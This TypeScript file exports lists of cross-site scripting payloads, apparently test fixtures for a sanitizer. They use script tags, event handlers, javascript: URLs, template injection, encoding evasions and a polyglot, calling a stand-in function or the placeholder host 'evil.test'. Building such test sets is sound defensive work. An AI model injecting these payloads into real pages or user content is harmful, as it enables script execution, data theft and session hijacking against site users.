// Text that is made to run as a script, or to fetch something, wherever a page takes it for markup.

/** What a script of a payload calls. */
export const CALLED = "owned";

/** Where a payload fetches from. No such host is ever asked. */
export const ELSEWHERE = "evil.test";

const call = `${CALLED}()`;
const url = `//${ELSEWHERE}/x`;

/** Short enough for a name. */
export const SHORT = [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `"><svg/onload=${call}>`,
  `'><img src=x onerror=${call}>`,
  `" autofocus onfocus=${call} x="`,
  `' onmouseover='${call}`,
  `\` onerror=${call} \``,
  `</title><script>${call}</script>`,
  `</textarea><svg onload=${call}>`,
  `</script><script>${call}</script>`,
  `--><img src=x onerror=${call}>`,
  `]]><img src=x onerror=${call}>`,
  `<img src=http:${url}>`,
  `<link rel=stylesheet href=${url}>`,
  `<base href=http:${url}/>`,
  `javascript:${call}`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<iframe src=javascript:${call}>`,
];

/** The others. */
export const LONG = [
  `<ScRiPt>${call}</ScRiPt>`,
  `<script src=http:${url}></script>`,
  `<script\u0000>${call}</script>`,
  `<script/x>${call}</script>`,
  `<<script>${call}//<</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<img src="x" onerror="${call}">`,
  `<img/src=x/onerror=${call}>`,
  `<img src=x onerror\n=\n${call}>`,
  `<img srcset="http:${url} 1x" src=x>`,
  `<picture><source srcset="http:${url}"><img src=x></picture>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>press</text></a></svg>`,
  `<svg><image href="http:${url}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${call}'/>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  `<math href="javascript:${call}">press</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="http:${url}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="http:${url}">`,
  `<video src=x onerror=${call}></video>`,
  `<audio src="http:${url}" autoplay></audio>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}><option>x</select>`,
  `<body onload=${call}>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<form action="javascript:${call}"><button>press</button></form>`,
  `<button formaction="javascript:${call}" form=x>press</button>`,
  `<a href="javascript:${call}">press</a>`,
  `<a href="data:text/html,<script>opener.${call}</script>">press</a>`,
  `[press](javascript:${call})`,
  `![x](http:${url})`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<style>@import url(http:${url});</style>`,
  `<div style="background:url(http:${url})">x</div>`,
  `<p style="animation-name:x" onanimationstart=${call}>x</p>`,
  `<x onclick=${call} tabindex=1 id=x>press</x>`,
  `<template><script>${call}</script></template>`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `\u202e<img src=x onerror=${call}>\u202c`,
  `＜script＞${call}＜/script＞`,
  `'"><!--><script>${call}</script><!--`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${call} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${call}//>\\x3e`,
];

export const ALL = [...SHORT, ...LONG];
